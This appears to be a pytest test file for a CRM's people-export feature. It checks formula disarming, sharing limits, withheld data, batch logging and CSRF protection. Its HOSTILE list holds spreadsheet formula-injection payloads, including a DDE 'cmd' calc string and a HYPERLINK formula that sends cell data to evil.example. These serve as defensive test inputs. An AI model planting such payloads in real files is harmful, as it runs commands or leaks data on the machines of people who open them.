"""People → Export: the file is what its member sees, nothing in it acts where it is opened, and the log knows."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from accounts.members import viewer_of
from accounts.models import Grant, GrantStatus, Member, Sharing
from crm import copies, deals, editing, notes, tasks
from crm.models import Company, Correspondent, Person
from crm.pen import pen
from limited_use.asking import GrantEnded
from limited_use.keys import vault
from limited_use.log.leaf import read_leaf
from limited_use.log.models import LogLeaf
from limited_use.sinks.export import disarmed
from limited_use.template_lint import faults_of
from tests.crm.world import World

STARTS = set("=+-@|%\uff1d\uff0b\uff0d\uff20")
HOSTILE = [
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    '"=1+1"',
    "'=1+1",
    "  =1+1",
    "\u00a0\ufeff=1+1",
    "“=HYPERLINK(1)”",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "x;=1+1;",
    'x; "@SUM(A1)',
    "\uff1d1+1",
    "|calc",
    "%0A=1",
    "Zed, Amy \u2028=1",
]


@pytest.fixture
def world(anna, runtime):
    """Anna is signed in and has an account to fill; so has Bea of her organisation."""
    anna.sign_in()
    with runtime.begin() as work:
        viewer = viewer_of(work.session.scalars(select(Member)).one())
    made = World(runtime, viewer.organisation_id)
    made.viewer, made.mine, made.bea = viewer, made.grant(viewer), made.member("Bea")
    made.hers = made.grant(made.bea)
    return made


def take(person, what, form="csv"):
    answer = person.post("/people/export", {"what": what, "format": form}, page="/people/export")
    assert answer.status_code == 200, answer.text[:500]
    return answer


def table(answer):
    """Return the rows as a program reads them, by column."""
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline=""), strict=True))


def cells_by(text, separator):
    """Return what a spreadsheet that parts cells at `separator` would take for cells."""
    for line in re.split(r"[\r\n\v\f\x85\u2028\u2029]", text):
        yield from line.split(separator)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        yield from row


def acts(cell):
    """Tell whether a spreadsheet could take the cell for a formula, blanks and quotes before it aside."""
    bare = re.sub(r"^[\s\"`\u2018-\u201e\u00ab\u00bb\u200b\u200e\ufeff\u2060\u00ad]+", "", cell)
    return bare[:1] in STARTS or cell[:1] in {"\t", "\r", "\n"}


def note_about(world, viewer, person_id, text):
    keys, now = pen(world.runtime, world.organisation_id), world.runtime.clock.now()
    with world.runtime.begin() as work:
        notes.write_about_person(work.session, keys, viewer, person_id, text, now)


def person_of(world):
    with world.runtime.sessions() as session:
        return session.scalars(select(Person.id)).one()


def test_no_template_lets_a_value_out_of_its_place(app):
    source = (Path(app.root_path) / "templates" / "export" / "choose.html").read_text()
    assert faults_of(app.jinja_env, source) == []


def test_the_button_on_the_page_leads_to_a_file(anna, world):
    world.hear(world.mine, "jane@acme.example", name="Jane Doe", written_to=1)
    world.match_all(world.mine)
    assert 'href="/people/export"' in anna.get("/people").text
    assert "What you see, as a file" in anna.get("/people/export").text
    answer = take(anna, "people")
    (row,) = table(answer)
    assert (row["name"], row["email"], row["company"]) == ("Jane Doe", "jane@acme.example", "Acme")
    assert row["last_contact_at"].endswith("Z")
    assert row["added_by_your_team"] == "False"
    assert answer.data.startswith(b"\xef\xbb\xbf")


def test_a_file_is_saved_and_never_shown_kept_or_run(anna, world):
    answer = take(anna, "people")
    headers = answer.headers
    day = world.runtime.clock.now().date().isoformat()
    assert headers["Content-Disposition"] == f'attachment; filename="crm-people-{day}.csv"'
    assert headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Cache-Control"] == "no-store"
    assert headers["Content-Security-Policy"].startswith("sandbox")


def test_every_hostile_cell_is_disarmed_wherever_it_is_opened(anna, world):
    for number, name in enumerate(HOSTILE):
        world.hear(world.mine, f"h{number}@else.example", name=name, written_to=1)
    world.match_all(world.mine)
    answer = take(anna, "people")
    rows = table(answer)
    assert len(rows) == len(HOSTILE)
    text = answer.data.decode("utf-8-sig")
    assert [cell for row in rows for cell in row.values() if acts(cell)] == []
    for separator in (",", ";", "\t"):
        assert [cell for cell in cells_by(text, separator) if acts(cell)] == []
    named = {person["email"]: person["name"] for person in json.loads(take(anna, "people", "json").data)["people"]}
    for number, name in enumerate(HOSTILE):
        assert named[f"h{number}@else.example"] == " ".join(name.split()) or named[f"h{number}@else.example"] == name


@pytest.mark.parametrize(
    "text",
    ["first\n=1+1", "first\r\n\t@SUM(A1)", 'a;"=1', "\tx", "a;\u00a0\u200b-1", "a\u2028+1", "a\x0b=1"],
    ids=["line", "tab", "semicolon", "leading-tab", "blanks", "separator", "vertical"],
)
def test_a_formula_inside_a_text_is_disarmed_and_no_letter_is_lost(text):
    made = disarmed(text)
    assert made.replace("'", "") == text
    assert not [cell for line in re.split("[\r\n\v\u2028]", made) for cell in re.split("[;\t]", line) if acts(cell)]


def test_plain_text_and_numbers_stay_as_they_are():
    for text in ("Jane; Doe", "a = b", "5 - 3", "o'Neill", "", "3.5", "x@y.example"):
        assert disarmed(text) == text


def test_a_long_text_of_separators_is_disarmed_in_no_time():
    assert disarmed("\t" * 20_000 + ";" * 20_000 + " " * 20_000)[:2] == "'\t"


def test_notes_tasks_and_deals_are_taken_along_with_whom_they_are_about(anna, world):
    world.hear(world.mine, "jane@acme.example", name="Jane Doe", written_to=1)
    world.match_all(world.mine)
    jane, keys, now = person_of(world), pen(world.runtime, world.organisation_id), world.runtime.clock.now()
    note_about(world, world.viewer, jane, 'Said "yes", twice;\nthen left')
    with world.runtime.begin() as work:
        tasks.add(work.session, keys, world.viewer, tasks.Typed("Call back", now.date(), jane), now)
        tasks.add(work.session, keys, world.bea, tasks.Typed("Hers alone"), now)
        deals.add(work.session, keys, world.bea, deals.Typed("Big one", amount="12.50", person_id=jane), now)
    (note,) = table(take(anna, "notes"))
    assert (note["note"], note["person"], note["written_by"]) == (
        'Said "yes", twice;\nthen left',
        "Jane Doe",
        "Anna",
    )
    (task,) = table(take(anna, "tasks"))
    assert (task["task"], task["due_on"], task["person_email"]) == (
        "Call back",
        now.date().isoformat(),
        "jane@acme.example",
    )
    (deal,) = table(take(anna, "deals"))
    assert (deal["deal"], deal["stage"], deal["amount"], deal["currency"]) == ("Big one", "new", "12.50", "EUR")
    (record,) = json.loads(take(anna, "people", "json").data)["people"]
    assert record["facts"]["email"] == [{"value": "jane@acme.example", "sources": ["gmail"]}]
    assert [found["body"] for found in record["notes"]] == ['Said "yes", twice;\nthen left']


def test_a_colleagues_people_are_not_in_it_and_what_users_wrote_is(anna, world):
    world.hear(world.hers, "secret@hers.example", name="Canary Hers", written_to=1)
    world.match_all(world.hers)
    for form in ("csv", "json", "jsonl"):
        assert b"anary" not in take(anna, "people", form).data
    note_about(world, world.bea, person_of(world), "Written by Bea")
    for what in ("people", "notes"):
        for form in ("csv", "json", "jsonl"):
            taken = take(anna, what, form).data.decode()
            assert not re.search("anary|secret@|hers", taken)
    (row,) = table(take(anna, "notes"))
    assert (row["note"], row["person"], row["written_by"]) == ("Written by Bea", "", "Bea")
    assert len(table(take(anna, "people"))) == 1


def test_what_a_colleague_shares_is_in_it_as_far_as_they_share_it(anna, world, runtime):
    world.hear(world.hers, "shared@acme.example", name="Shared Sue", written_to=1)
    world.match_all(world.hers)
    for level, seen in ((Sharing.ONLY_ME, []), (Sharing.PEOPLE_AND_TIMES, ["Shared Sue"]), (Sharing.ONLY_ME, [])):
        with runtime.begin() as work:
            work.session.get_one(Grant, world.hers).sharing = level
        assert [row["name"] for row in table(take(anna, "people"))] == seen
        named = [found["name"] for found in json.loads(take(anna, "people", "json").data)["people"]]
        assert named == seen


def test_where_somebody_works_is_withheld_with_the_connection_that_tells_it(anna, world, runtime):
    world.hear(world.mine, "jane@acme.example", name="Jane Doe", written_to=1)
    world.match_all(world.mine)
    keys, now = pen(runtime, world.organisation_id), runtime.clock.now()
    with runtime.begin() as work:
        acme = work.session.scalars(select(Company.id)).one()
        editing.edit_company(work.session, keys, world.viewer, acme, "Ours", now)
        deals.add(work.session, keys, world.viewer, deals.Typed("Big one", person_id=person_of(world)), now)
        deals.add(work.session, keys, world.viewer, deals.Typed("Theirs", company_id=acme), now)
    assert [row["company"] for row in table(take(anna, "people"))] == ["Ours"]
    with runtime.begin() as work:
        work.session.get_one(Grant, world.mine).status = GrantStatus.SUSPENDED
    assert [row["company"] for row in table(take(anna, "people"))] == ["withheld (gmail)"]
    (person,) = json.loads(take(anna, "people", "json").data)["people"]
    mark = {"withheld": "suspended", "source": "gmail"}
    assert person["company"] == {"id": mark, "name": mark}
    told = {row["deal"]: row["company"] for row in table(take(anna, "deals"))}
    assert told == {"Big one": "", "Theirs": "Ours"}, "a company that a user named is the user's"


def test_what_was_quoted_is_taken_along_by_its_owner_and_withheld_from_a_colleague(anna, world, runtime):
    keys, vault_, now = pen(runtime, world.organisation_id), vault(runtime), runtime.clock.now()
    for viewer, grant, name in ((world.viewer, world.mine, "Mine"), (world.bea, world.hers, "Hers")):
        heard = world.hear(grant, f"{name}@else.example".lower(), name=name, written_to=1)
        message_id = world.message(grant, heard, f"Subject {name}", now)
        world.match_all(grant)
        with runtime.sessions() as session:
            copied = copies.copy_message(session, vault_, viewer, message_id, text=True)
            person_id = session.scalars(select(Correspondent.person_id).where(Correspondent.id == heard)).one()
        with runtime.begin() as work:
            note_id = notes.write_about_person(work.session, keys, viewer, person_id, f"Note {name}", now)
            copies.put_beside(work.session, copied, note_id=note_id)
    rows = {row["note"]: row["quoted_subject"] for row in table(take(anna, "notes"))}
    assert rows == {"Note Mine": "Subject Mine", "Note Hers": "withheld (gmail)"}


def test_more_than_a_thousand_rows_come_in_pieces_each_with_its_leaf(anna, world, runtime):
    keys, now = pen(runtime, world.organisation_id), runtime.clock.now()
    with runtime.begin() as work:
        for number in range(1_203):
            tasks.add(work.session, keys, world.viewer, tasks.Typed(f"Task {number}"), now)
    rows = table(take(anna, "tasks"))
    assert {row["task"] for row in rows} == {f"Task {number}" for number in range(1_203)}
    assert len(json.loads(take(anna, "tasks", "json").data)["tasks"]) == 1_203
    assert take(anna, "tasks", "jsonl").data.count(b"\n") == 1_203
    with runtime.sessions() as session:
        leaves = [read_leaf(body) for body in session.scalars(select(LogLeaf.body).order_by(LogLeaf.id))]
    taken = [(leaf.feature, leaf.actor_class, leaf.records) for leaf in leaves if leaf.sink == "export"]
    assert taken == [("export", "member", 1_000), ("export", "member", 203)] * 3


@pytest.mark.usefixtures("world")
def test_an_empty_file_is_a_file(anna):
    assert table(take(anna, "deals")) == []
    assert json.loads(take(anna, "deals", "json").data) == {"deals": []}
    assert take(anna, "deals", "jsonl").data == b""


@pytest.mark.parametrize(
    "form",
    [{}, {"what": "people"}, {"what": "people", "format": "xls"}, {"what": "members", "format": "csv"}],
    ids=["nothing", "no-format", "no-such-format", "no-such-table"],
)
@pytest.mark.usefixtures("world")
def test_what_cannot_be_chosen_is_explained(anna, form):
    answer = anna.post("/people/export", form, page="/people/export")
    assert (answer.status_code, "Choose what to export" in answer.text) == (422, True)


@pytest.mark.usefixtures("world")
def test_no_other_site_can_have_a_file_made(anna):
    answer = anna.client.post("/people/export", data={"what": "people", "format": "csv"})
    assert answer.status_code == 400
    assert anna.get("/people/export?what=people&format=csv").content_type.startswith("text/html")


def test_too_many_rows_are_refused_before_the_first(anna, world, monkeypatch):
    monkeypatch.setattr("web.pages.export.MOST_ROWS", 0)
    assert table(take(anna, "people")) == []
    world.hear(world.mine, "jane@acme.example", name="Jane Doe", written_to=1)
    world.match_all(world.mine)
    answer = anna.post("/people/export", {"what": "people", "format": "csv"}, page="/people/export")
    assert (answer.status_code, "1,000,000 rows" in answer.text) == (413, True)


def test_a_connection_that_ends_while_a_file_is_sent_cuts_it_off(anna, world, runtime, monkeypatch):
    from limited_use.sinks import batches

    monkeypatch.setattr(batches, "BATCH", 1)
    for number in range(3):
        world.hear(world.mine, f"p{number}@else.example", name=f"P {number}", written_to=1)
    world.match_all(world.mine)
    token = re.search(r'name="csrf_token" value="([^"]+)"', anna.get("/people/export").text)[1]
    form = {"what": "people", "format": "json", "csrf_token": token}
    answer = anna.client.post("/people/export", base_url="http://localhost:8080", data=form, buffered=False)
    parts = answer.iter_encoded()
    taken = [next(parts)]
    with runtime.begin() as work:
        work.session.get_one(Grant, world.mine).status = GrantStatus.REVOKED
    with pytest.raises(GrantEnded):
        taken.extend(parts)
    with pytest.raises(json.JSONDecodeError):
        json.loads(b"".join(taken))
